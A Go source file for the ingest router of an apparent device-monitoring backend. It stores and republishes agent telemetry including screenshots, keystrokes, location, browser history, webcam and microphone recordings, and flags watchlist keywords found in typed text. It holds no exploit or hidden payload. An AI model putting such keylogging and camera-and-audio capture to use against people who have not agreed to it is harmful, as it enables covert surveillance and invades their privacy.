package ingest

import (
	"context"
	"encoding/json"
	"errors"
	"log"
	"strings"
	"time"

	"github.com/google/uuid"

	"fleetwatch-backend/internal/models"
	"fleetwatch-backend/internal/registry"
)

// ErrUnknownAgent is returned for results from unregistered fingerprints.
var ErrUnknownAgent = errors.New("unknown agent")

// Store is the telemetry collaborator plus the latest-value projection on
// the agent record.
type Store interface {
	AppendTelemetry(ctx context.Context, agentID, kind string, data []byte, ts time.Time) error
	CreateAlert(ctx context.Context, alert *models.Alert) error
	SetLastScreenshot(ctx context.Context, fingerprint, data string) error
	SetLastStats(ctx context.Context, fingerprint string, stats []byte) error
	SetActiveWindow(ctx context.Context, fingerprint, window string) error
}

// OwnerResolver resolves an agent's owner; satisfied by the registry.
type OwnerResolver interface {
	Owner(ctx context.Context, fingerprint string) (*string, error)
}

// Publisher is the fan-out hub.
type Publisher interface {
	Publish(ev models.Event)
}

// Mirror republishes classified events to an external bus. Optional.
type Mirror interface {
	MirrorEvent(ev models.Event) error
}

// Notifier pushes alerts to an out-of-band operator channel. Optional.
type Notifier interface {
	NotifyAlert(agentID, message string, ts time.Time) error
}

// classified is one recognized kind extracted from an envelope. text carries
// the human-readable content scanned against the watchlist, if any.
type classified struct {
	kind string
	data []byte
	text string
}

// Router classifies agent result envelopes, persists each present kind via
// the telemetry store, and republishes to live observers.
type Router struct {
	store     Store
	resolver  OwnerResolver
	hub       Publisher
	mirror    Mirror
	notifier  Notifier
	watchlist []string

	now func() time.Time
}

func NewRouter(store Store, resolver OwnerResolver, hub Publisher, mirror Mirror, notifier Notifier, watchlist []string) *Router {
	lowered := make([]string, 0, len(watchlist))
	for _, w := range watchlist {
		w = strings.ToLower(strings.TrimSpace(w))
		if w != "" {
			lowered = append(lowered, w)
		}
	}

	return &Router{
		store:     store,
		resolver:  resolver,
		hub:       hub,
		mirror:    mirror,
		notifier:  notifier,
		watchlist: lowered,
		now:       time.Now,
	}
}

// Ingest processes one result envelope. Each recognized kind present is
// handled independently; unrecognized content was already dropped by
// decoding and is never an error. Persistence failures are logged, not
// surfaced, so a telemetry outage cannot break the agent channel.
func (r *Router) Ingest(ctx context.Context, fingerprint string, env *models.Envelope) error {
	owner, err := r.resolver.Owner(ctx, fingerprint)
	if errors.Is(err, registry.ErrNotFound) {
		return ErrUnknownAgent
	}
	if err != nil {
		return err
	}

	now := r.now()

	if env.ActiveWindow != "" {
		if err := r.store.SetActiveWindow(ctx, fingerprint, env.ActiveWindow); err != nil {
			log.Printf("WARN Set active window for %s: %v", fingerprint, err)
		}
	}

	for _, c := range r.classify(env) {
		if err := r.store.AppendTelemetry(ctx, fingerprint, c.kind, c.data, now); err != nil {
			log.Printf("WARN Append %s telemetry for %s: %v", c.kind, fingerprint, err)
		}

		r.project(ctx, fingerprint, env, c.kind)

		ev := models.Event{
			Type:    models.EventResult,
			AgentID: fingerprint,
			Kind:    c.kind,
			Data:    c.data,
			TS:      now,
		}
		r.hub.Publish(ev)
		r.mirrorEvent(ev)

		if c.kind == models.KindAlert {
			r.raiseAlert(ctx, fingerprint, owner, c.text, now)
		} else if hit := r.match(c.text); hit != "" {
			r.raiseAlert(ctx, fingerprint, owner, "watchlist keyword \""+hit+"\" in "+c.kind, now)
		}
	}

	return nil
}

// classify extracts every recognized kind present in the envelope.
func (r *Router) classify(env *models.Envelope) []classified {
	var out []classified

	if env.Screenshot != nil {
		data, _ := json.Marshal(env.Screenshot)
		out = append(out, classified{kind: models.KindScreenshot, data: data})
	}
	if len(env.SystemStats) > 0 {
		out = append(out, classified{kind: models.KindSystemStats, data: env.SystemStats})
	}
	if env.Keystrokes != nil {
		data, _ := json.Marshal(env.Keystrokes)
		out = append(out, classified{kind: models.KindKeystrokes, data: data, text: env.Keystrokes.Data})
	}
	if len(env.Location) > 0 {
		out = append(out, classified{kind: models.KindLocation, data: env.Location})
	}
	if len(env.AppUsage) > 0 {
		out = append(out, classified{kind: models.KindAppUsage, data: env.AppUsage})
	}
	if len(env.BrowserHistory) > 0 {
		out = append(out, classified{
			kind: models.KindBrowserHistory,
			data: env.BrowserHistory,
			text: string(env.BrowserHistory),
		})
	}
	if len(env.Webcam) > 0 {
		out = append(out, classified{kind: models.KindWebcam, data: env.Webcam})
	}
	if len(env.MicRecording) > 0 {
		out = append(out, classified{kind: models.KindMicRecording, data: env.MicRecording})
	}
	if env.Alert != nil {
		data, _ := json.Marshal(env.Alert)
		out = append(out, classified{kind: models.KindAlert, data: data, text: env.Alert.Message})
	}

	return out
}

// project updates the agent's latest-value columns. Last write wins; there
// is no ordering guarantee beyond arrival order at this call.
func (r *Router) project(ctx context.Context, fingerprint string, env *models.Envelope, kind string) {
	var err error
	switch kind {
	case models.KindScreenshot:
		err = r.store.SetLastScreenshot(ctx, fingerprint, env.Screenshot.Data)
	case models.KindSystemStats:
		err = r.store.SetLastStats(ctx, fingerprint, env.SystemStats)
	default:
		return
	}
	if err != nil {
		log.Printf("WARN Update %s projection for %s: %v", kind, fingerprint, err)
	}
}

// raiseAlert persists a first-class alert record and pushes it to the
// owner-level subscription.
func (r *Router) raiseAlert(ctx context.Context, fingerprint string, owner *string, message string, now time.Time) {
	if owner == nil {
		log.Printf("INFO Alert from pending agent %s dropped: %s", fingerprint, message)
		return
	}

	alert := &models.Alert{
		ID:      uuid.New().String(),
		AgentID: fingerprint,
		OwnerID: *owner,
		Kind:    models.KindAlert,
		Message: message,
		TS:      now,
		Read:    false,
	}
	if err := r.store.CreateAlert(ctx, alert); err != nil {
		log.Printf("WARN Persist alert for %s: %v", fingerprint, err)
	}

	data, _ := json.Marshal(alert)
	ev := models.Event{
		Type:    models.EventAlert,
		AgentID: fingerprint,
		Kind:    models.KindAlert,
		Data:    data,
		TS:      now,
	}
	r.hub.Publish(ev)
	r.mirrorEvent(ev)

	if r.notifier != nil {
		if err := r.notifier.NotifyAlert(fingerprint, message, now); err != nil {
			log.Printf("WARN Notify alert for %s: %v", fingerprint, err)
		}
	}
}

// match returns the first watchlist keyword found in text, or "".
func (r *Router) match(text string) string {
	if text == "" {
		return ""
	}
	lowered := strings.ToLower(text)
	for _, w := range r.watchlist {
		if strings.Contains(lowered, w) {
			return w
		}
	}
	return ""
}

func (r *Router) mirrorEvent(ev models.Event) {
	if r.mirror == nil {
		return
	}
	if err := r.mirror.MirrorEvent(ev); err != nil {
		log.Printf("WARN Mirror event (type=%s agent=%s): %v", ev.Type, ev.AgentID, err)
	}
}
